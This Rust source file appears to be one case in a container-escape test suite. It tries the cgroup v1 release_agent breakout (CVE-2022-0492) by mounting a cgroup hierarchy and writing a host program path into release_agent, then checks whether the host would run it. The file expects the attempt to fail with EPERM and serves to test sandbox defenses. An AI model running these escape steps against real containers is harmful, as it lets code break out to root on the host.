//! Name a program that the kernel starts on the host, as root, when a group of cgroup v1 is empty.
//!
//! Stopped by the filter and by the capabilities: mount(2) takes CAP_SYS_ADMIN. EPERM.
//! See cgroups(7), CVE-2022-0492.

use nix::mount::{MsFlags, mount};

use super::{Attempt, Host, Seen, read, told, when};

/// In a hierarchy that was made for this, and in which no group ever gets empty.
pub fn attack() -> Attempt {
    std::fs::create_dir_all("/run/agent")?;
    let host = told("HOST")?;
    let name = format!("none,name={}", host.trim_start_matches("/run/"));
    mount(Some("agent"), "/run/agent", Some("cgroup"), MsFlags::empty(), Some(name.as_str()))?;
    let program = host + "/owned";
    std::fs::write("/run/agent/release_agent", &program)?;
    Ok(program)
}

/// The host's own mount of that hierarchy.
pub fn harm(host: &mut Host, _: &Seen) -> Option<String> {
    let program = read(host.path("agent/release_agent"));
    when(std::path::Path::new(&program).starts_with(&host.directory), "the host would start it")
}
